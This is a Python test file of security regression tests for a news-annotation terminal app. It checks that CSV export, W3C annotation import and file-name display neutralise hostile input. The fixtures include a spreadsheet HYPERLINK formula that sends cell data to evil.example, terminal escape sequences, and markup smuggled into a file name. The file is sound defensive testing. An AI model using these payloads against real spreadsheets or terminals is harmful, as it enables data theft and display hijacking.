"""Issue 12: what an attacker, a careless colleague or bad luck must not get through.

Each test here failed on the code before its fix.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from exchange_support import stores
from hypothesis import given, settings

from tui.annotations.exchange.export import CSV_FIELDS, export_text
from tui.annotations.model import Annotation, Quote

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _annotation(**changes: object) -> Annotation:
    fields: dict[str, object] = {
        "id": "a1",
        "source": "reuters",
        "start": 0,
        "end": 4,
        "quote": Quote("NATO"),
        "label": "claim",
        "created": "2026-01-01T00:00:00Z",
        "modified": "2026-01-01T00:00:00Z",
    }
    fields.update(changes)
    return Annotation(**fields)  # type: ignore[arg-type]


# -- 6. CSV formula injection ---------------------------------------------------------------------


def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised() -> None:
    hostile = _annotation(
        id='=HYPERLINK("http://evil.example/?"&K2)',
        note="=1+1",
        label="+cmd",
        quote=Quote("-2+3", "@SUM(A1)", "\tx"),
        claim="\r=1",
    )
    sources = {"=src": {"path": "/a/=b.txt", "sha256": "x"}}
    rows = list(csv.reader(io.StringIO(export_text("csv", sources, [hostile]), newline="")))
    for cell in rows[1]:
        assert not cell.startswith(FORMULA_STARTS), cell
    row = dict(zip(CSV_FIELDS, rows[1], strict=True))
    assert row["note"] == "'=1+1" and row["label"] == "'+cmd"  # the text itself is kept


@settings(max_examples=60)
@given(stores())
def test_no_csv_text_cell_starts_a_formula(store: tuple) -> None:
    sources, annotations = store
    rows = list(csv.reader(io.StringIO(export_text("csv", sources, annotations), newline="")))
    for row in rows[1:]:
        for name, cell in zip(CSV_FIELDS, row, strict=True):
            if name not in ("start", "end", "group"):  # numbers stay numbers
                assert not cell.startswith(FORMULA_STARTS), (name, cell)


# -- 3. imported strings; 5. imported paths are labels -------------------------------------------

ESCAPE = "\x1b]0;pwned\x07"


def _w3c_file(
    folder: Path, source_uri: str, note: str = "", label: str = "claim", exact: str = "root" + ESCAPE
) -> Path:
    item = {
        "@context": "http://www.w3.org/ns/anno.jsonld",
        "id": "urn:uuid:" + "1" * 32,
        "type": "Annotation",
        "created": "2026-01-01T00:00:00Z",
        "modified": "2026-01-01T00:00:00Z",
        "body": [
            {"type": "TextualBody", "purpose": "tagging", "value": label},
            {"type": "TextualBody", "purpose": "commenting", "value": note},
        ],
        "target": {
            "type": "SpecificResource",
            "source": source_uri,
            "selector": [
                {"type": "TextQuoteSelector", "exact": exact},
                {"type": "TextPositionSelector", "start": 0, "end": len(exact)},
            ],
        },
    }
    path = folder / "in.jsonld"
    path.write_text(json.dumps(item), encoding="utf-8")
    return path


def test_imported_strings_have_their_control_characters_made_visible(tmp_path: Path) -> None:
    from tui.annotations.exchange.importer import read_import

    imported = read_import(_w3c_file(tmp_path, "file:///tmp/x.txt", note=ESCAPE + "\nnext", label=ESCAPE))
    (annotation,) = imported.annotations
    for text in (annotation.note, annotation.label, annotation.quote.exact, annotation.source):
        assert "\x1b" not in text and "\x07" not in text
    assert annotation.note.endswith("\nnext")  # a note's own line breaks stay
    assert "␛]0;pwned␇" in annotation.label


def test_export_to_stdout_carries_no_escape_from_an_imported_file(tmp_path: Path) -> None:
    from exchange_support import run

    store = tmp_path / "store.json"
    assert (
        run(
            "import",
            str(_w3c_file(tmp_path, "file:///x.txt", note=ESCAPE)),
            "--store",
            str(store),
            cwd=tmp_path,
        ).returncode
        == 0
    )
    for fmt in ("md", "csv"):
        result = run("export", "--format", fmt, "--store", str(store), cwd=tmp_path)
        assert result.returncode == 0, result.stderr
        assert "\x1b" not in result.stdout + result.stderr


def test_an_imported_w3c_source_path_is_never_read_by_an_export(tmp_path: Path) -> None:
    from exchange_support import run

    secret = tmp_path / "secret.txt"
    secret.write_text("The private key is hunter2. Nobody must see it.\n", encoding="utf-8")
    store = tmp_path / "store.json"
    imported = _w3c_file(tmp_path, secret.as_uri(), exact="The private key")
    assert run("import", str(imported), "--store", str(store), cwd=tmp_path).returncode == 0
    result = run("export", "--format", "md", "--store", str(store), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "hunter2" not in result.stdout


# -- 4. file names are data: no escape, no markup -------------------------------------------------

HOSTILE_NAME = "[@click=app.quit]x\x1b]0;pwned\x07"


def _folder_with_hostile_name(tmp_path: Path) -> Path:
    from tui.resources import seeds_dir

    folder = tmp_path / "articles"
    folder.mkdir()
    for seed in sorted(seeds_dir().iterdir())[:2]:
        (folder / seed.name).write_bytes(seed.read_bytes())
    (folder / f"{HOSTILE_NAME}.txt").write_text("", encoding="utf-8")  # empty: a "Skipped" toast
    return folder


async def test_a_hostile_file_name_reaches_a_toast_as_plain_visible_text(tmp_path: Path) -> None:
    from reader_support import SIZE, loaded, make_app

    app = make_app([_folder_with_hostile_name(tmp_path)])
    async with app.run_test(size=SIZE) as pilot:
        await loaded(pilot)
        skipped = [n for n in app._notifications if n.title == "Skipped"]
        assert skipped
        for notification in app._notifications:
            assert not notification.markup
            assert "\x1b" not in notification.message + notification.title
        assert any("[@click=app.quit]x␛]0;pwned␇" in n.message for n in skipped)


def test_align_table_prints_no_escape_from_a_file_name(tmp_path: Path) -> None:
    from exchange_support import run

    folder = _folder_with_hostile_name(tmp_path)
    from tui.resources import seeds_dir

    (folder / f"{HOSTILE_NAME}.txt").write_bytes(sorted(seeds_dir().iterdir())[3].read_bytes())
    result = run("align", "--format", "table", str(folder), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "\x1b]" not in result.stdout + result.stderr
    assert "x␛]0;pwned␇" in result.stdout


# -- 15. exports' stale temporary files; hostile import files --------------------------------------


def test_an_export_removes_the_temporary_files_a_killed_export_left(tmp_path: Path) -> None:
    import fcntl

    from tui.annotations.exchange.export import save_export

    stale = tmp_path / ".annotations.csv.k1ll3d.tmp"  # what a SIGKILL mid-write leaves
    stale.write_text("half an export", encoding="utf-8")
    live = tmp_path / ".annotations.csv.w0rk1n.tmp"  # another export still writing: locked
    live.write_text("being written", encoding="utf-8")
    unrelated = tmp_path / ".notes.txt.tmp"
    unrelated.write_text("not ours", encoding="utf-8")
    with live.open("r+") as writer:
        fcntl.flock(writer.fileno(), fcntl.LOCK_EX)
        save_export(tmp_path / "annotations.csv", "id\n")
        assert not stale.exists()
        assert live.exists() and unrelated.exists()
    assert (tmp_path / "annotations.csv").read_text(encoding="utf-8") == "id\n"


def test_a_huge_import_is_refused_before_it_is_read(tmp_path: Path) -> None:
    import tracemalloc

    from tui.annotations.exchange.importer import ImportFileError, read_import

    for name, first in (("big.json", b"["), ("big-object.json", b'{"a": "')):
        big = tmp_path / name
        with big.open("wb") as handle:  # 100 MB of invalid JSON (sparse: no disk needed)
            handle.write(first)
            handle.truncate(100 * 1024 * 1024)
        tracemalloc.start()
        try:
            with pytest.raises(ImportFileError) as refused:
                read_import(big)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert "too large" in str(refused.value)
        # It took 2.2 GB before: the file was read whole and parsed.
        assert peak < 1024 * 1024, f"peak {peak // 1024} kB"


def test_an_import_that_is_not_an_object_is_refused_before_parsing(tmp_path: Path) -> None:
    from tui.annotations.exchange.importer import ImportFileError, read_import

    path = tmp_path / "list.json"
    path.write_text("[" + "1," * 1000 + "1]", encoding="utf-8")
    with pytest.raises(ImportFileError, match="JSON object"):
        read_import(path)


@pytest.mark.parametrize(
    "payload",
    [
        '{"schema": "nato-reader/annotations", "version": ' + "9" * 5000 + "}",
        '{"schema": "nato-reader/annotations", "version": 1, "sources": {}, "annotations": [{"id": "a", '
        '"source": "s\\udcff", "start": 0, "end": 1, "quote": {"exact": "x\\ud800"}, "label": "\\udfff", '
        '"created": "2026-01-01T00:00:00Z", "modified": "2026-01-01T00:00:00Z", "note": "\\ud83d"}]}',
    ],
    ids=["int-over-4300-digits", "lone-surrogates"],
)
def test_hostile_numbers_and_surrogates_give_a_clear_result_not_a_traceback(
    tmp_path: Path, payload: str
) -> None:
    from exchange_support import run

    path = tmp_path / "hostile.json"
    path.write_text(payload, encoding="utf-8")
    store = tmp_path / "store.json"
    result = run("import", str(path), "--store", str(store), cwd=tmp_path)
    assert "Traceback" not in result.stderr
    assert result.returncode in (0, 1)  # 1: a runtime error (the file), not a usage error
    assert result.stderr == "" or result.stderr.startswith("nato-reader: error: ")
    if result.returncode == 0:  # stored with the surrogates made visible, and readable again
        listed = run("export", "--format", "md", "--store", str(store), cwd=tmp_path)
        assert listed.returncode == 0 and "Traceback" not in listed.stderr
